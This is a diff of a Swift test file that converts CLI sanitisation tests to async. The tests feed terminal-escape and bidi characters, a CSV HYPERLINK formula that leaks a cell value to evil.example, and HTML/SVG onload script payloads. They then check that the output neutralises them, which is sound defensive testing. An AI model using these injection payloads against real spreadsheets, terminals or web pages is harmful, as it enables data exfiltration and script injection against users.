@@ -14,12 +14,12 @@ import Testing
             .replacingOccurrences(of: "/", with: "_").replacingOccurrences(of: "=", with: "")
     }
 
-    @Test func inspectEscapesAForgedTokensText() throws {
+    @Test func inspectEscapesAForgedTokensText() async throws {
         let cli = CLI()
         defer { cli.remove() }
-        _ = try cli.run("keys", "rotate")
+        _ = try await cli.run("keys", "rotate")
         let token = Self.forgedToken(client: "acme\u{1B}]0;pwned\u{7}", name: "\u{1B}[8m\u{202E}Corp\u{85}\nresult:  valid")
-        let output = try cli.run("inspect", token)
+        let output = try await cli.run("inspect", token)
         let bad: [Unicode.Scalar] = ["\u{1B}", "\u{7}", "\u{202E}", "\u{85}"]
         #expect(!output.stdout.unicodeScalars.contains(where: bad.contains), "\(output.stdout.debugDescription)")
         let client = try #require(output.stdout.split(separator: "\n").first { $0.hasPrefix("client:") })
@@ -29,7 +29,7 @@ import Testing
         #expect(output.stdout.split(separator: "\n").filter { $0.hasPrefix("result:") } == ["result:   invalid (unknown_key)"])
     }
 
-    @Test func bulkOutputNeutralisesFormulasAndHTMLKeepsMarksAsText() throws {
+    @Test func bulkOutputNeutralisesFormulasAndHTMLKeepsMarksAsText() async throws {
         let cli = CLI()
         defer { cli.remove() }
         try FileManager.default.createDirectory(atPath: cli.home, withIntermediateDirectories: true)
@@ -40,17 +40,17 @@ import Testing
             globex,@SUM(1+1)
             initech,Initech
             """.write(toFile: csv, atomically: true, encoding: .utf8)
-        let output = try cli.run("issue", "--csv", csv, "--base-url", "https://portal.example.com/join")
+        let output = try await cli.run("issue", "--csv", csv, "--base-url", "https://portal.example.com/join")
         #expect(output.status == 0, "\(output.stderr)")
         #expect(output.stdout.contains(",acme,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&F2,\"\"Open\"\")\","))
         #expect(output.stdout.contains(",globex,\"'@SUM(1+1)\","))
         #expect(output.stdout.contains(",initech,Initech,"))
 
-        let html = try cli.run("issue", "--client", "acme", "--name", "The x\"\u{301} onload=alert(1) y", "--format", "html",
+        let html = try await cli.run("issue", "--client", "acme", "--name", "The x\"\u{301} onload=alert(1) y", "--format", "html",
                                "--base-url", "https://portal.example.com/join")
         #expect(html.status == 0, "\(html.stderr)")
         #expect(html.stdout.contains(">Join the The x&quot;\u{301} onload=alert(1) y portal</a>"))
-        let frame = try cli.run("issue", "--client", "acme", "--name", "\u{600}<svg onload=alert(1)>", "--format", "iframe",
+        let frame = try await cli.run("issue", "--client", "acme", "--name", "\u{600}<svg onload=alert(1)>", "--format", "iframe",
                                 "--base-url", "https://portal.example.com/join")
         #expect(frame.stdout.contains("title=\"The \u{600}&lt;svg onload=alert(1)&gt; portal\""), "\(frame.stdout)")
     }
